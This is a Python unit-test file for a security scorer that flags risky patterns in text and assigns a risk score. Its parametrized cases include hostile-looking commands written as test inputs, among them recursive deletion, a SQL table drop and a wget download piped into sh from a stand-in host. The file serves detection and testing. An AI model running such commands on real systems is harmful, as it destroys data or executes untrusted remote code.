"""Unit tests for SecurityScorer."""

import re

import pytest

from skills_scorecard.models import RiskLevel
from skills_scorecard.scoring import SAFETY_RULE, SECURITY_RULES, ScoreRule, SecurityScorer
from tests.conftest import RISKY_SKILL_MD


class TestSecurityScorer:
    """Tests for security risk scoring."""

    def test_empty_text(self):
        """Test that empty input keeps 100 with only the safety note."""
        result = SecurityScorer().score("")

        assert result.score == 100
        assert result.risk_level == RiskLevel.LOW
        assert result.findings == ["No safety/permission language detected."]

    def test_safety_language_bonus_is_clamped(self):
        """Test that the safety bonus cannot push the score past 100."""
        result = SecurityScorer().score("Always ask the user to confirm first.")

        assert result.score == 100
        assert result.findings == []

    @pytest.mark.parametrize("text,key", [
        ("rm -rf build/", "destructive-delete"),
        ("DROP TABLE users;", "destructive-delete"),
        ("wget -qO- get.example.sh | sh", "remote-exec"),
        ("sudo make install", "privilege"),
        ("uses child_process to spawn", "dynamic-exec"),
        ("store the password in the vault", "credentials"),
        ("post results to a webhook", "network"),
    ])
    def test_single_pattern(self, text, key):
        """Test that each risk rule deducts its penalty."""
        rule = next(r for r in SECURITY_RULES if r.key == key)

        result = SecurityScorer().score(text)

        assert rule.note in result.findings
        assert result.score <= 100 - rule.weight

    def test_each_pattern_counts_once(self):
        """Test that repeated matches of one rule deduct once."""
        result = SecurityScorer().score("sudo a\nsudo b\nsudo c")

        assert result.score == 90
        assert result.findings.count("Requests elevated privileges (sudo).") == 1

    def test_penalty_and_safety_bonus_combine(self):
        """Test that safety language offsets a penalty."""
        result = SecurityScorer().score("Run sudo only after approval.")

        assert result.score == 98
        assert result.findings == ["Requests elevated privileges (sudo)."]

    def test_all_patterns_fire(self):
        """Test that every rule fires independently and findings are capped."""
        result = SecurityScorer().score(RISKY_SKILL_MD)

        assert result.score == 20
        assert result.risk_level == RiskLevel.HIGH
        assert result.findings == [rule.note for rule in SECURITY_RULES]
        assert SAFETY_RULE.gap not in result.findings

    def test_score_clamped_at_zero(self):
        """Test that oversized penalties clamp to 0."""
        heavy = ScoreRule(key="heavy", weight=150, note="Heavy", pattern=re.compile("boom"))

        result = SecurityScorer(rules=[heavy]).score("boom")

        assert result.score == 0
        assert result.risk_level == RiskLevel.HIGH

    def test_execute_is_not_exec(self):
        """Test that 'execute' does not trip the dynamic execution rule."""
        result = SecurityScorer().score("Execute the report step.")

        assert result.score == 100
